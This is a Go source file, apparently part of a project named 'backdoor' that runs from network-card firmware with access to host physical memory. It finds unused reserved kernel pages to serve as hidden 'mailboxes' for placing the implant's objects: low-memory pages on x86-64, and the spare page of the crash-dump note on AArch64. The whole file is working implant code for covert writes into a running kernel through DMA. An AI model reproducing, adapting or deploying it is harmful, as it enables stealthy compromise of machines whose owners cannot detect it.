package heal

import (
	"encoding/binary"
	"fmt"

	"github.com/backdoor-rhs/backdoor/agent/kernel"
	"github.com/backdoor-rhs/backdoor/nicfw/hostmem"
)

// mailbox is a page of host memory that the kernel has mapped but never uses, in which objects for it can be laid.
type mailbox struct {
	pa hostmem.PhysAddr
	va kernel.VirtAddr // in the direct map
	// owned makes sure that the kernel still gives the page to nobody.
	owned Step
}

// The first MiB is reserved as a whole since v5.13 (commit f1d4d47c5851, "x86/setup: Always reserve the first 1M of RAM"),
// but stays in the direct map. Page 0 has the BIOS's data, and from the extended BIOS data area on firmware may look at what
// is there.
const (
	mailboxFirst = hostmem.PhysAddr(0x2000)
	mailboxEnd   = hostmem.PhysAddr(0x9f000)
	// realModeSize is left free behind real_mode_header, where the start-up code for other CPUs lies.
	realModeSize = 32 << 10
)

// findMailbox returns one mailbox.
func findMailbox(m model) (mailbox, error) {
	boxes, err := findMailboxes(m, 1)
	if err != nil {
		return mailbox{}, err
	}
	return boxes[0], nil
}

// findMailboxes returns the pages of a kernel that can be mailboxes: most of them at most, and at least one. On x86-64 these are the first pages below
// 1 MiB that are RAM for the kernel, that their struct pages call reserved, that are all zero, and that are not part of the real-mode trampoline; on
// AArch64, see noteMailbox.
func findMailboxes(m model, most int) ([]mailbox, error) {
	if m.Info().Arch == archAArch64 {
		box, err := noteMailbox(m)
		page := make([]byte, hostmem.PageSize)
		if err == nil {
			err = m.ReadVirt(box.va, page)
		}
		if err == nil && !zero(page[:leaseOffset]) {
			err = fmt.Errorf("the only page for it is in use: a signal may wait there until the parent of a process has taken note of its death: %w", ErrNotYet)
		}
		if err != nil {
			return nil, fmt.Errorf("find a mailbox: %w", err)
		}
		return []mailbox{box}, nil
	}
	pages, err := newReservedPages(m)
	if err != nil {
		return nil, fmt.Errorf("find a mailbox: %w", err)
	}
	var boxes []mailbox
	page := make([]byte, hostmem.PageSize)
	for pa := mailboxFirst; pa < mailboxEnd; pa += hostmem.PageSize {
		box, ok := pages.at(m, pa)
		if !ok || m.ReadVirt(box.va, page) != nil || !zero(page) {
			continue
		}
		if boxes = append(boxes, box); len(boxes) == most {
			return boxes, nil
		}
	}
	if len(boxes) > 0 {
		return boxes, nil
	}
	return nil, fmt.Errorf("no free reserved page below 1 MiB: %w", kernel.ErrNotFound)
}

// reservedPages tells which pages below 1 MiB the kernel gives to nobody.
type reservedPages struct {
	pageSize, flags, direct, vmemmap uint64
	reserved                         int64 // PG_reserved
	trampoline                       hostmem.Range
	ram                              []hostmem.Range
}

func newReservedPages(m model) (p reservedPages, err error) {
	l := layout{m: m}
	p.pageSize = l.sizeof("page")
	p.flags = l.field("page", "flags", 8)
	if l.err != nil {
		return p, l.err
	}
	if p.reserved, err = m.Enum("pageflags", "PG_reserved"); err != nil {
		return p, err
	}
	if p.reserved < 0 || p.reserved > 63 {
		return p, fmt.Errorf("PG_reserved is %d: %w", p.reserved, kernel.ErrNotSupported)
	}
	if p.direct, err = symbolValue(m, "page_offset_base"); err != nil {
		return p, err
	}
	if p.vmemmap, err = symbolValue(m, "vmemmap_base"); err != nil {
		return p, err
	}
	realMode, err := symbolValue(m, "real_mode_header")
	if err != nil {
		return p, err
	}
	p.trampoline = hostmem.Range{Start: hostmem.PhysAddr(realMode - p.direct), Size: realModeSize}
	p.ram = m.RAM()
	return p, nil
}

// at returns a page as a mailbox if it is one of them. What is in it is not looked at.
func (p *reservedPages) at(m model, pa hostmem.PhysAddr) (mailbox, bool) {
	box := mailbox{pa: pa, va: kernel.VirtAddr(p.direct + uint64(pa))}
	if !inRanges(p.ram, pa, hostmem.PageSize) || pa+hostmem.PageSize > p.trampoline.Start && pa < p.trampoline.End() {
		return box, false
	}
	flagsVA := kernel.VirtAddr(p.vmemmap + uint64(pa)/hostmem.PageSize*p.pageSize + p.flags)
	flags, err := read64(m, flagsVA)
	if err != nil || flags>>p.reserved&1 == 0 {
		return box, false
	}
	flagsPA, err := m.Phys(flagsVA)
	if err != nil {
		return box, false
	}
	box.owned = Step{
		Op: OpExpect, Why: "the mailbox page is reserved, so the kernel gives it to nobody", Object: "struct page.flags",
		Addr: flagsPA, Virt: flagsVA, Expect: le(flags, 8),
	}
	got, err := m.Phys(box.va)
	return box, err == nil && got == pa
}

// archAArch64 is kernel.Info's name of it.
const archAArch64 = "aarch64"

// noteMailbox returns the mailbox of a kernel for AArch64, which reserves no memory below 1 MiB: the second page of the note in which it keeps what
// tools that read crash dumps need. That has VMCOREINFO_NOTE_SIZE bytes, more than a page, from alloc_pages_exact at boot (kernel/crash_core.c, since
// v6.9 kernel/vmcore_info.c), is never given back, and is filled from its beginning with less than a page. What is in the page is not looked at.
func noteMailbox(m model) (mailbox, error) {
	pointer, err := m.Symbol("vmcoreinfo_note")
	if err != nil {
		return mailbox{}, err
	}
	note, err := read64(m, pointer)
	if err != nil {
		return mailbox{}, err
	}
	va := kernel.VirtAddr(note)
	// Elf64_Nhdr: n_namesz, n_descsz, n_type, the name in 12 bytes, what it says; and at its end another of zeros.
	var head [24]byte
	if err := m.ReadVirt(va, head[:]); err != nil {
		return mailbox{}, fmt.Errorf("vmcoreinfo_note: %w", err)
	}
	const name, room = "VMCOREINFO\x00", 256 // what a crash adds
	namesz, descsz := binary.LittleEndian.Uint32(head[:]), binary.LittleEndian.Uint32(head[4:])
	if va%hostmem.PageSize != 0 || int(namesz) != len(name) || string(head[12:12+len(name)]) != name || descsz > hostmem.PageSize-uint32(len(head))-room {
		return mailbox{}, fmt.Errorf("vmcoreinfo_note at %v is no note that ends within its first page: %w", va, kernel.ErrNotSupported)
	}
	pa, err := m.Phys(va)
	if err != nil {
		return mailbox{}, err
	}
	box := mailbox{va: va + hostmem.PageSize}
	if box.pa, err = m.Phys(box.va); err != nil {
		return mailbox{}, err
	}
	pointerPA, err := m.Phys(pointer)
	if err != nil {
		return mailbox{}, err
	}
	if box.pa != pa+hostmem.PageSize || !inRanges(m.RAM(), pa, 2*hostmem.PageSize) {
		return mailbox{}, fmt.Errorf("vmcoreinfo_note at %v is not in one piece of memory: %w", va, kernel.ErrNotSupported)
	}
	box.owned = Step{
		Op: OpExpect, Why: "the mailbox is the second page of the kernel's own note, which it keeps for ever", Object: "vmcoreinfo_note",
		Addr: pointerPA, Virt: pointer, Expect: le(note, 8),
	}
	return box, nil
}

func inRanges(rs []hostmem.Range, pa hostmem.PhysAddr, n uint64) bool {
	for _, r := range rs {
		if r.Contains(pa, n) {
			return true
		}
	}
	return false
}

func zero(b []byte) bool {
	for _, c := range b {
		if c != 0 {
			return false
		}
	}
	return true
}
